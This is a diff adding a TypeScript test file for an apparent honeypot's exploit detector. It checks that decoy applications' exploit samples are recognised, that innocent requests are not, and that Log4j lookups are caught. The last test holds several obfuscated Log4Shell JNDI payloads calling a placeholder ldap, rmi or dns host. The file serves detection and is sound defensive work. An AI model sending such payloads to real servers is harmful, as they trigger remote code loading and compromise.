@@ -1,0 +1,95 @@
+/** The files in `decoys/http/`: every exploit is found in the requests that carry it, and in no innocent one. */
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { shippedDecoys } from '../../package.ts';
+import type { Exchange } from '../http/serve.ts';
+import { readApplications } from './application.ts';
+import { log4shellOf, matchExploit } from './match.ts';
+import { type RequestText, textOf } from './request-text.ts';
+import { readHead } from './servers/web-server.ts';
+
+const applications = readApplications(`${shippedDecoys}/http`);
+
+/** @param sample lines end in line feeds; host and length are left out */
+function requestOf(sample: string): RequestText {
+  const [head = '', ...rest] = sample.split('\n\n');
+  const isMultipart = /^content-type: multipart/im.test(head);
+  const text = rest.join('\n\n');
+  const body = Buffer.from(isMultipart ? text.replaceAll('\n', '\r\n') : text);
+  const parsed = readHead(Buffer.from(`${head}\nHost: 198.51.100.9`.replaceAll('\n', '\r\n'), 'latin1'));
+  assert.ok('method' in parsed, `not read: ${sample}`);
+  return textOf(parsed as Exchange, body);
+}
+
+for (const application of applications)
+  describe(application.application, () => {
+    for (const exploit of application.exploits) {
+      it(`${exploit.name} has a sample`, () => assert.ok(exploit.samples.length > 0));
+      for (const [index, { request, command }] of exploit.samples.entries())
+        it(`${exploit.name} is found in sample ${index + 1}, with its command`, () => {
+          const match = matchExploit(applications, requestOf(request));
+          assert.deepEqual(
+            {
+              application: match?.application.application,
+              name: match?.exploit.name,
+              command: match?.command,
+            },
+            { application: application.application, name: exploit.name, command },
+          );
+          assert.equal(match!.exploit, exploit, 'another entry of the same name comes first');
+        });
+    }
+  });
+
+it('innocent requests match nothing', () => {
+  const innocent = [
+    'GET / HTTP/1.1',
+    'GET /robots.txt HTTP/1.1',
+    'GET /favicon.ico HTTP/1.1',
+    'GET /sitemap.xml HTTP/1.1',
+    'GET /.well-known/security.txt HTTP/1.1',
+    'GET /api/v1/users?id=1 HTTP/1.1',
+    'GET /api/v1/pods?limit=500 HTTP/1.1',
+    'GET /index.php?page=2 HTTP/1.1',
+    'GET /search?q=how+to+exec%28%29+a+command HTTP/1.1',
+    'GET /shop/shell-necklace.html HTTP/1.1',
+    'GET /static/app.9f8a7c.js HTTP/1.1',
+    'GET /v2/ HTTP/1.1',
+    'GET /login?next=%2Fadmin%2F HTTP/1.1',
+    'OPTIONS * HTTP/1.1',
+    'HEAD /health HTTP/1.1',
+    'POST /login HTTP/1.1\nContent-Type: application/x-www-form-urlencoded\n\nusername=alice&password=s3cret',
+    'POST /api/v1/orders HTTP/1.1\nContent-Type: application/json\n\n{"id":1,"items":[{"sku":"a","command":"none"}]}',
+    'POST /upload HTTP/1.1\nContent-Type: multipart/form-data; boundary=b\n\n--b\nContent-Disposition: form-data; name="file"; filename="a.txt"\n\nhello\n--b--',
+    'POST /graphql HTTP/1.1\nContent-Type: application/json\n\n{"query":"{ me { id } }"}',
+    'PUT /files/report.pdf HTTP/1.1\n\n%PDF-1.4',
+  ];
+  for (const request of innocent) {
+    const text = requestOf(request);
+    const match = matchExploit(applications, text);
+    assert.equal(match && `${match.application.application} ${match.exploit.name}`, undefined, request);
+    assert.deepEqual(log4shellOf(text), []);
+  }
+});
+
+it('lookups of Log4j are found through their disguises, wherever they stand', () => {
+  const found = [
+    ['GET /?x=${jndi:ldap://192.0.2.1:1389/a} HTTP/1.1', 'ldap://192.0.2.1:1389/a'],
+    ['GET /%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D HTTP/1.1', 'ldap://192.0.2.1/a'],
+    [
+      'GET / HTTP/1.1\nUser-Agent: ${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://192.0.2.1/b}',
+      'ldap://192.0.2.1/b',
+    ],
+    [
+      'GET / HTTP/1.1\nX-Api-Version: ${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://192.0.2.1/c}',
+      'rmi://192.0.2.1/c',
+    ],
+    [
+      'GET / HTTP/1.1\nReferer: ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//192.0.2.1/d}',
+      'ldap://192.0.2.1/d',
+    ],
+    ['POST /login HTTP/1.1\n\nuser=${jndi:dns://192.0.2.1/e}', 'dns://192.0.2.1/e'],
+  ] as const;
+  for (const [request, address] of found)
+    assert.deepEqual(log4shellOf(requestOf(request)), [address], request);
+});
